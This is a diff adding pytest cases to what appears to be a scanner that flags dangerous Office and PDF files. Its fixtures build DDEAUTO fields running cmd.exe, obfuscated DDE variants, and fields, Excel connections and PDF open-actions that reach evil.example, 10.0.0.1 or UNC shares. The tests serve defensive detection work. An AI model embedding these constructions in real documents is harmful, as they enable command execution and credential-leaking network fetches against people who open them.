@@ -47,6 +47,38 @@ def related(kind: str, target: str, mode: str = "External") -> bytes:
     return package("word/document.xml", **{"word/_rels/document.xml.rels": rels.encode()})
 
 
+def word(part: bytes) -> bytes:
+    """A Word file with another part of this XML."""
+    return package("word/document.xml", **{"word/a.xml": part})
+
+
+def excel(name: str, part: bytes) -> bytes:
+    """A workbook with another part."""
+    return package("xl/workbook.xml", **{name: part})
+
+
+def chunk(target: str, part: bytes) -> bytes:
+    """A Word file that takes another part in as a document."""
+    rels = f'<R><r Type="http://a/aFChunk" Target="{target}"/></R>'.encode()
+    name = "word/" + target.removeprefix("/word/")
+    return package("word/document.xml", **{"word/_rels/document.xml.rels": rels, name: part})
+
+
+def said(instruction: str) -> bytes:
+    """A Word file with a field of this instruction: { } around a field within, | between two runs,
+    ~ where a mark that Word passes over seems to end it."""
+    mark, end = '<r><fldChar fldCharType="%s"/></r>', "</instrText></r>"
+    begin = "<r><instrText>"
+    passed = f'<AlternateContent><Choice Requires="x">{mark % "end"}</Choice></AlternateContent>'
+    for sign, runs in (
+        ("{", end + mark % "begin" + begin), ("}", end + mark % "end" + begin),
+        ("|", end + begin), ("~", end + passed + begin),
+    ):  # fmt: skip
+        instruction = instruction.replace(sign, runs)
+    field = mark % "begin" + begin + instruction + end + mark % "separate" + mark % "end"
+    return word(f"<document><p>{field}</p></document>".encode())
+
+
 def within(name: str, part: bytes) -> bytes:
     """A Word file in which another file is embedded under this name."""
     return package("word/document.xml", **{f"word/embeddings/{name}": part})
@@ -92,6 +124,32 @@ def packed(own: bytes) -> bytes:
         ("有实体的.docx", typed(b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "damaged"),
         ("模板.docx", related("attachedTemplate", "http://evil.example/x.dotm"), "fetches"),
         ("共享.docx", related("oleObject", "file:///\\\\evil\\x", "Exter&#110;al"), "fetches"),
+        *(("域.docx", said(field), "starts") for field in (
+            r'DDEAUTO c:\\windows\\cmd.exe "/k calc"', " dde cmd x", "DATABASE \\d x", "{QUOTE 68}x",
+            "DDEA|UTO cmd x", "DDEA~UTO cmd x", "IF 1=1 {DDEAUTO cmd x}",
+        )),
+        *(("域.docx", said(field), "fetches") for field in (
+            'INCLUDEPICTURE "http://10.0.0.1/x.png" \\d', r"includetext \\\\10.0.0.1\\a.docx",
+            'LINK Excel.Sheet.8 "\\\\\\\\a\\\\b.xlsx" "S!R1C1:R2C2" \\a', "INCLUDEPICTURE {REF x}",
+            "INCLUDEPICTURE \\d “https://a/x.png”", "RD file://10.0.0.1/a",
+        )),
+        ("简单域.docx", word(b'<fldSimple instr="INCLUDEPICTURE &quot;http://a/x.png&quot;"/>'),
+         "fetches"),
+        ("别种编码的域.docx", word('<fldSimple instr="DDEAUTO a b"/>'.encode("utf-16")), "starts"),
+        ("怪编码的域.docx", word('<?xml version="1.0" encoding="GBK"?><a>中</a>'.encode("gbk")),
+         "damaged"),
+        ("改名的页眉.docx", package("word/document.xml", **{"word/a.dat":
+            b'<hdr><fldSimple instr="DDEAUTO a b"/></hdr>'}), "starts"),
+        ("夹网页.docx", chunk("afchunk.dat", b"<html><script>alert(1)</script>"), "inside"),
+        ("夹网页.docx", chunk("/word/afchunk.docx", b"MIME-Version: 1.0"), "inside"),
+        ("启动程序.xlsx", excel("xl/externalLinks/externalLink1.xml",
+            b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'), "starts"),
+        *(("取数.xlsx", excel("xl/connections.xml", connection), "fetches") for connection in (
+            b'<c><connection><webPr url="http://10.0.0.1/"/></connection></c>',
+            b'<c><connection><dbPr connection="Data Source=10.0.0.1"/></connection></c>',
+            b'<c><connection><textPr sourceFile="\\\\10.0.0.1\\a.csv"/></connection></c>',
+            b'<c><connection odcFile="http://10.0.0.1/a.odc"/></c>',
+        )),
         ("对象.docx", package("word/document.xml", **{"word/x.bin": OLE}), "inside"),
         ("图片在外.docx", related("image", "\\\\evil\\share\\x.png"), "fetches"),
         ("图片在网.docx", related("image", "https://evil.example/x.png"), "fetches"),
@@ -127,6 +185,19 @@ def packed(own: bytes) -> bytes:
         ("动态表单.pdf", pdf(catalog=b"/AcroForm<</XFA 4 0 R>>"), "runs"),
         ("炸弹.pdf", packed_pdf(catalog=b"/X 5 0 R", more=[b"[%b]" % (b"0 " * 30_000_000)]),
          "heavy_pdf"),
+        *(("自动.pdf", packed_pdf(catalog=where, more=more), "opens") for where, *more in (
+            (b"/OpenAction<</S/SubmitForm/F(http://10.0.0.1/)>>",),
+            (b"/OpenAction<</S/URI/URI(http://10.0.0.1/)>>",),
+            (b"/OpenAction<</S/ImportData/F(\\\\10.0.0.1\\a)>>",),
+            (b"/OpenAction<</S/GoToR/F(\\\\10.0.0.1\\a)/D[0/Fit]>>",),
+            (b"/OpenAction<</S/Go#54oE/F(\\\\10.0.0.1\\a.pdf)>>",),
+            (b"/AA<</WC 5 0 R>>", b"<</S/URI/URI(http://10.0.0.1/)>>"),
+            (b"/OpenAction 5 0 R", b"<</S 6 0 R/URI(http://10.0.0.1/)>>", b"/URI"),
+            (b"/OpenAction 5 0 R", b"<</S/GoTo/D[3 0 R/Fit]/Next 6 0 R>>",
+             b"[5 0 R<</S/Named/N/NextPage/Next<</S/URI/URI(http://a)>>>>]"),
+        )),
+        ("翻页即开.pdf", pdf(catalog=b"/X 5 0 R", more=[
+            b"<</Type/Page/AA<</O<</S/URI/URI(http://10.0.0.1/)>>>>>>"]), "opens"),
         ("出走.docx", package("word/document.xml", "../../tmp/x"), "astray"),
         ("绝对.docx", package("word/document.xml", "/etc/x"), "astray"),
         ("反斜.docx", package("word/document.xml", "a\\..\\b"), "astray"),
@@ -166,6 +237,35 @@ def test_an_embedded_table_is_no_archive_and_a_signed_pdf_opens_for_everybody() 
     assert kind_of(pdf(b"/Encrypt")) == "pdf"
     links = b"/OpenAction[3 0 R/Fit]/X<</S/URI/URI(http://a/Launch/EF)>>/Y(/JavaScript)"
     assert kind_of(packed_pdf(catalog=links)) == "pdf"
+
+
+@pytest.mark.parametrize("field", [
+    "PAGE", "= {PAGE} - 1", 'HYPERLINK "https://www.miit.gov.cn/database/dde"', "REF _DDE_LINK1 \\h",
+    r'INCLUDEPICTURE "C:\\Users\\a\\x.png" \* MERGEFORMATINET',
+    'LINK Excel.Sheet.8 "D:\\\\a.xlsx" "S!R1C1:R2C2" \\a \\f 0', 'TOC \\o "1-3"',
+    r'INCLUDEPICTURE "C:\\x.png"}{HYPERLINK "http://a/"',
+])  # fmt: skip
+def test_a_field_that_counts_refers_or_is_clicked_is_taken(field: str) -> None:
+    assert kind_of(said(field)) == "docx"
+
+
+def test_data_of_ones_own_and_a_document_taken_in_are_no_fetching() -> None:
+    own = b'<c><connection><dbPr connection="Data Model Connection"/></connection></c>'
+    assert kind_of(excel("xl/connections.xml", own)) == "xlsx"
+    text = b'<c><connection><textPr sourceFile="D:\\a.csv"/></connection></c>'
+    assert kind_of(excel("xl/connections.xml", text)) == "xlsx"
+    assert kind_of(chunk("part1.docx", DOCX)) == "docx"
+
+
+def test_a_pdf_that_turns_to_its_own_page_or_waits_for_a_click_is_taken() -> None:
+    clicked = b"<</S/URI/URI(http://a/)/Next[<</S/GoToR/F(a.pdf)>>]>>"
+    annotation = b"<</Subtype/Link/Rect[0 0 9 9]/A %b>>" % clicked
+    for where, *more in (
+        (b"/OpenAction[3 0 R/XYZ null null null]", annotation),
+        (b"/OpenAction 5 0 R/AA<</WC<</S/Hide/T(a)>>>>", b"<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>"),
+        (b"/Resources<</XObject<</AA 5 0 R>>>>", b"<</Group<</S/Transparency>>>>"),
+    ):
+        assert kind_of(packed_pdf(catalog=where, more=more)) == "pdf"
 
 
 @pytest.mark.parametrize(("kind", "target"), [
